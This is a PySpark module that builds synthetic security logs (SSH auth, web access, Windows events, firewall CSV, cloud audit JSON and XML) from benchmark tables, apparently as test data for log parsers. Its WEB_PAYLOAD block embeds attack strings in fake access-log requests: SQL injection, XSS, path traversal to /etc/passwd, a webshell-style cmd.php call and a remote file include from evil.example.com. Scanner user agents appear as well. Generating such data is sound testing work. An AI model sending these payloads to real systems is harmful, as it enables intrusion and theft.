"""Raw-log views: log text derived row by row from the given tables.

The tables hold no logs, so each view writes one log record (or block, or document) per
table row by fixed arithmetic. All of them read the whole table.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def _events(spark, sf_dir):
    """events with the number in props and the parts used by several views."""
    return table(spark, sf_dir, "events").selectExpr(
        "event_id", "ts", "user_id", "event_type", "value",
        "cast(get_json_object(props, '$.k') as int) as k",
    )


AUTH_TEXT = """
concat(date_format(ts, 'MMM'), ' ', lpad(cast(day(ts) as string), 2, ' '), ' ', date_format(ts, 'HH:mm:ss'), ' web01 ',
 case
  when k % 20 = 19 then concat('-- MARK -- ', k)
  when event_type = 'error' and k % 10 = 0 then concat('sshd[', pid, ']: Failed password for root from ', ip, ' port ', port, ' ssh2')
  when event_type = 'error' and k % 10 in (1, 2, 3) then concat('sshd[', pid, ']: Failed password for invalid user g', k, ' from ', ip, ' port ', port, ' ssh2')
  when event_type = 'error' and k % 10 = 4 then concat('sshd[', pid, ']: Failed publickey for u', user_id, ' from ', ip, ' port ', port, ' ssh2')
  when event_type = 'error' then concat('sshd[', pid, ']: Failed password for u', user_id, ' from ', ip, ' port ', port, ' ssh2')
  when event_type = 'signup' then concat('sshd[', pid, ']: Invalid user g', k, ' from ', ip, ' port ', port)
  when event_type = 'click' and user_id % 4 = 0 and k % 2 = 0 then concat('sshd[', pid, ']: Accepted password for u', user_id, ' from ', ip, ' port ', port, ' ssh2')
  when event_type = 'click' and user_id % 4 = 0 then concat('sshd[', pid, ']: Accepted publickey for u', user_id, ' from ', ip, ' port ', port, ' ssh2')
  when event_type = 'click' then concat('sshd[', pid, ']: Disconnected from ', ip, ' port ', port)
  when event_type = 'view' and k % 2 = 0 then concat('sshd[', pid, ']: pam_unix(sshd:session): session opened for user u', user_id, ' by (uid=0)')
  when event_type = 'view' then concat('sshd[', pid, ']: pam_unix(sshd:session): session closed for user u', user_id)
  else concat('sudo: u', user_id, ' : TTY=pts/0 ; PWD=/home ; COMMAND=/bin/ls ', k)
 end)
"""


def auth_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One system-login line per event; one file per day; four users share an address.
    Every line is indented, and every seventh event is followed by a comment line."""
    rows = _events(spark, sf_dir).selectExpr(
        "*", "user_id div 4 as g",
        "concat('10.', (user_id div 4) div 62500 % 250, '.', (user_id div 4) div 250 % 250, '.', (user_id div 4) % 250) as ip",
        "1000 + event_id % 30000 as pid", "20000 + event_id % 40000 as port",
    )
    return rows.selectExpr(
        "concat('auth-', date_format(ts, 'yyyyMMdd'), '.log') as source_file",
        "event_id", f"{AUTH_TEXT} as text",
    ).selectExpr(
        "source_file",
        "inline(if(event_id % 7 = 0,"
        " array(struct(event_id * 2 as seq, concat('\\t ', text, ' ') as value), struct(event_id * 2 + 1 as seq, concat('# note ', event_id) as value)),"
        " array(struct(event_id * 2 as seq, concat('\\t ', text, ' ') as value))))",
    )


WEB_PAYLOAD = """
case
 when k % 25 = 0 then concat(base, '?id=', k, '%27%20OR%20%271%27=%271')
 when k % 25 = 1 then concat(base, '?id=', k, '%20UNION%20SELECT%20name+FROM%20users')
 when k % 25 = 2 then concat(base, '?q=%3Cscript%3Ealert(', k, ')%3C/script%3E')
 when k % 25 = 3 then concat('/', k, '/../../etc/passwd')
 when k % 25 = 4 then concat('/', k, '/%252e%252e%252fetc')
 when k % 25 = 5 then concat('/up/', k, '/cmd.php?c=id')
 when k % 25 = 6 then concat('/wp-admin/', k, '/config.bak')
 when k % 25 = 7 then concat(base, '?page=http://evil.example.com/', k, '.txt.php')
 when k % 25 = 8 then concat(base, '?q=or+1=1')
 when k % 25 = 9 then concat(base, '?q=50%zz+off%')
 when k % 25 = 10 then concat(base, '?next=javascript:go(', k, ')')
 else base
end
"""

WEB_AGENT = """
case when k % 11 = 0 then 'Nikto/2.5.0' when k % 11 = 1 then 'sqlmap/1.6.12#stable'
 when k % 11 = 2 then 'acunetix' when k % 11 = 3 then 'curl/7.68.0' else 'Mozilla/5.0 (Macintosh)' end
"""


def web_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One access line per event, on the path of page event_id % 50; one file per day."""
    pages = table(spark, sf_dir, "pages").selectExpr(
        "page_id", "regexp_replace(url, '^https?://[^/]+', '') as base"
    )
    rows = _events(spark, sf_dir).withColumn("page_id", F.expr("event_id % 50")).join(pages, "page_id")
    return rows.selectExpr(
        "event_id", "ts", "k", "event_type", "user_id",
        "concat('10.', (user_id div 8) div 62500 % 250, '.', (user_id div 8) div 250 % 250, '.', (user_id div 8) % 250) as ip",
        "case when user_id % 5 = 0 then concat('u', user_id) else '-' end as who",
        f"{WEB_PAYLOAD} as target", f"{WEB_AGENT} as agent",
        "case event_type when 'error' then if(k % 3 = 0, 403, 404) when 'purchase' then 500 else 200 end as status",
    ).selectExpr(
        "concat('web-', date_format(ts, 'yyyyMMdd'), '.log') as source_file",
        "event_id as seq",
        "case when k = 77 then concat('broken line ', event_id)"
        " when k = 78 then concat(ip, ' - ', who, ' [', date_format(ts, 'dd/MMM/yyyy:HH:mm:ss'), ' +0000] \"GET ', target, ' HTTP/1.1\" ', status, ' ', event_id % 5000)"
        " else concat(ip, ' - ', who, ' [', date_format(ts, 'dd/MMM/yyyy:HH:mm:ss'), ' +0000] \"GET ', target, ' HTTP/1.1\" ', status, ' ', event_id % 5000, ' \"-\" \"', agent, '\"') end as value",
    )


EVENT_ID = """
element_at(array(4625, 4624, 4648, 4672, 4697, 4698, 4720, 4724, 4728, 4732, 4756, 4776, 4768, 4769, 4771, 1102, 4946, 7045), cast(o_orderkey % 18 + 1 as int))
"""


def _orders(spark, sf_dir):
    return table(spark, sf_dir, "orders").selectExpr(
        "o_orderkey", "o_custkey", "o_orderdate", "o_totalprice", f"{EVENT_ID} as eid",
        "o_custkey div 5 as g", "o_orderkey * 37 % 86400 as s",
        "concat('10.2.', (o_custkey div 2) div 250 % 250, '.', (o_custkey div 2) % 250) as ip",
        "concat('c', o_custkey) as who",
    ).selectExpr(
        "*",
        "concat(date_format(o_orderdate, 'MM/dd/yyyy'), ' ', lpad(cast((s div 3600 + 11) % 12 + 1 as string), 2, '0'), ':', lpad(cast(s div 60 % 60 as string), 2, '0'), ':', lpad(cast(s % 60 as string), 2, '0'), if(s >= 43200, ' PM', ' AM')) as stamp",
    )


def win_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One tabular Windows line per order; one file per five customers. Every 13th is a
    loose line that only names an event id, every 29th is outside the layout."""
    return _orders(spark, sf_dir).selectExpr(
        "concat('win-', g, '.log') as source_file", "o_orderkey as seq",
        "case when o_orderkey % 29 = 0 then concat('-- separator ', o_orderkey)"
        " when o_orderkey % 13 = 0 then concat('forwarded eventid: ', eid, ' for ', who)"
        " else concat(stamp, ' Microsoft-Windows-Security-Auditing ', eid, ' Category ', eid % 7, ' \\t event for ', who, ' account name ', who, ' from ', ip) end as value",
    )


def win_blocks(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One key/value block per order; every 31st has no event id."""
    return _orders(spark, sf_dir).selectExpr(
        "concat('winblocks-', g, '.log') as source_file", "o_orderkey as seq",
        "concat(if(o_orderkey % 3 = 0, '\\n', ''), 'Date: ', stamp,"
        " if(o_orderkey % 31 = 0, '', concat('\\nEventID: ', eid)),"
        " '\\nAccount Name: ', who,"
        " if(o_orderkey % 4 = 0, '', concat('\\nSource Network Address: ', ip)),"
        " '\\nLogon Type: ', if(o_orderkey % 5 = 0, 2, 3), '\\nWorkstation Name: WS', o_custkey % 90,"
        " '\\nProcess Name: C:\\\\Program Files\\\\app', o_orderkey % 9, '.exe',"
        " '\\nService Name: svc', o_orderkey % 6, '\\nDetail: ', repeat('x', cast(o_orderkey % 100 as int))) as value",
    )


CSV_HEADER = "Timestamp,Src-IP,Dst IP,dst_port,protocol,Action,status_code,username,note"


def firewall_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One CSV row per line item plus a header per file; one file per ten suppliers."""
    rows = table(spark, sf_dir, "lineitem").selectExpr(
        "l_suppkey div 10 as f", "*",
        # order and line number alone do not tell all rows apart
        "(l_orderkey * 8 + l_linenumber) * 1000000 + (l_partkey * 1009 + l_suppkey) % 1000000 as seq",
    ).selectExpr(
        "concat('fw-', f, '.csv') as source_file", "seq",
        "concat(date_format(l_shipdate, \"yyyy-MM-dd'T'HH:mm:ss'Z'\"), ',10.3.', l_suppkey div 250 % 250, '.', l_suppkey % 250, ',10.9.0.', l_orderkey % 50, ',', 1 + l_partkey % 1024, ',tcp,',"
        " case when l_returnflag = 'R' and l_partkey % 17 = 0 then 'deny'"
        "  when l_partkey % 13 = 0 then 'login failed' when l_partkey % 13 = 1 then 'Login OK'"
        "  when l_partkey % 211 = 3 then 'Create User' when l_partkey % 211 = 4 then 'DeleteTrail' else 'pass' end, ',',"
        " case when l_partkey % 29 = 0 then 'HTTP 503' when l_partkey % 29 = 1 then '404' when l_partkey % 29 = 2 then 'none' else '200' end, ',',"
        " case when l_orderkey % 50 = 0 then 'root' when l_orderkey % 50 = 1 then 'Site Admin' else concat('c', l_orderkey % 997) end,"
        " case when l_linenumber = 1 then ',\"a, quoted \"\"note\"\"\"' when l_linenumber = 2 then '' when l_linenumber = 3 then ',n3,cut off' else concat(',n', l_linenumber) end) as value",
    )
    headers = rows.select("source_file").distinct().selectExpr(
        "source_file", "cast(-1 as bigint) as seq", f"'\\ufeff {CSV_HEADER}' as value"
    )
    return headers.unionByName(rows)


def cloud_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One nested audit record per event as JSON Lines; one file per day. Some lines end
    in a comma, some are broken, some are not objects."""
    return _events(spark, sf_dir).selectExpr(
        "concat('cloud-', date_format(ts, 'yyyyMMdd'), '.jsonl') as source_file", "event_id as seq",
        f"case when k = 91 then concat('{{\"broken\": ', event_id) when k = 92 then cast(event_id as string) else concat({CLOUD_RECORD}, if(k % 6 = 0, ',', '')) end as value",
    )


CLOUD_RECORD = """concat('{"eventTime": "', date_format(ts, "yyyy-MM-dd'T'HH:mm:ss'Z'"), '", "eventName": "',
 case event_type when 'error' then 'ConsoleLogin' when 'signup' then 'CreateUser' when 'purchase' then 'PutBucketPolicy' when 'click' then 'ListBuckets' else 'GetObject' end,
 '", "sourceIPAddress": "10.4.', (user_id div 4) div 250 % 250, '.', (user_id div 4) % 250, '", "userIdentity": {"type": "IAMUser", "userName": "',
 case when user_id % 9 = 0 then 'root' else concat('u', user_id) end, '", "ids": [1, {"accountName": "acc', user_id % 5, '"}]}',
 if(event_type = 'error', ', "errorMessage": "Failed authentication"', ''),
 if(event_type = 'signup', concat(', "requestParameters": {"userName": "new', k, '", "empty": {}}'), ''),
 ', "responseElements": {"status": null, "httpStatus": {"code": ', if(k % 4 = 0, 500, 200), '}}, "eventID": "e-', event_id % 3 * 1000 + 4625, '"}')"""


def cloud_documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One whole document per event: a wrapper object, a bare array or a single object."""
    return _events(spark, sf_dir).selectExpr(
        "concat('doc-', event_id, '.json') as source_file", "event_id as seq",
        f"case event_id % 4 when 0 then concat('{{\"version\": 1, \"Records\": [\\n', {CLOUD_RECORD}, ', 3]}}')"
        f" when 1 then concat('[', {CLOUD_RECORD}, ',\\n \"text\", ', {CLOUD_RECORD}, ']')"
        f" when 2 then concat('{{\"data\": \"[no list]\", \"logs\": [', {CLOUD_RECORD}, ']}}')"
        f" else {CLOUD_RECORD} end as value",
    )


def cloud_day_documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One whole document on one line per day: a wrapper object with the day's records in order."""
    rows = _events(spark, sf_dir).selectExpr("date_format(ts, 'yyyyMMdd') as day", "event_id", f"{CLOUD_RECORD} as record")
    said = F.transform(F.array_sort(F.collect_list(F.struct("event_id", "record"))), lambda r: r["record"])
    return rows.groupBy("day").agg(F.concat(F.lit('{"Records": ['), F.array_join(said, ", "), F.lit("]}")).alias("value")).selectExpr(
        "concat('day-', day, '.json') as source_file", "cast(0 as bigint) as seq", "value")


def firewall_even(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The firewall rows that have as many cells as their header."""
    return firewall_lines(spark, sf_dir).where("seq = -1 or value rlike ',n[4-9]$'")


def winevent_records(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One Windows event element per order; one file per five customers."""
    return _orders(spark, sf_dir).selectExpr(
        "concat('winevent-', g, '.xml') as source_file", "o_orderkey as seq",
        "concat('<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System><Provider Name=\"Auditing\"/>',"
        " '<EventID>', eid, '</EventID><TimeCreated SystemTime=\"', date_format(o_orderdate, 'yyyy-MM-dd'), 'T00:00:00Z\"/><Computer>WS', o_custkey % 90, '</Computer></System>',"
        " '<EventData><Data Name=\"SubjectUserName\">', if(o_orderkey % 3 = 0, '', concat('s', o_custkey)), '</Data><Data Name=\"TargetUserName\"> ', who, ' </Data>',"
        " '<Data>unnamed</Data><Data Name=\"IpAddress\">', ip, '</Data></EventData></Event>') as value",
    )


def xml_records(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One generic XML element per customer; attributes, repeated and nested children."""
    return table(spark, sf_dir, "customer").selectExpr(
        "concat('app-', c_custkey div 50, '.xml') as source_file", "c_custkey as seq",
        "concat('<entry id=\"', 4000 + c_custkey % 1000, '\"><user>', if(c_custkey % 7 = 0, 'admin', concat('u', c_custkey)), '</user>',"
        " '<net kind=\"v4\"><ip>10.5.', c_custkey div 250 % 250, '.', c_custkey % 250, '</ip></net><tag>a</tag><tag>b</tag>',"
        " '<action>', if(c_custkey % 6 = 0, 'login denied', 'read'), '</action><code unit=\"http\">', 200 + c_custkey % 300, '</code></entry>') as value",
    )
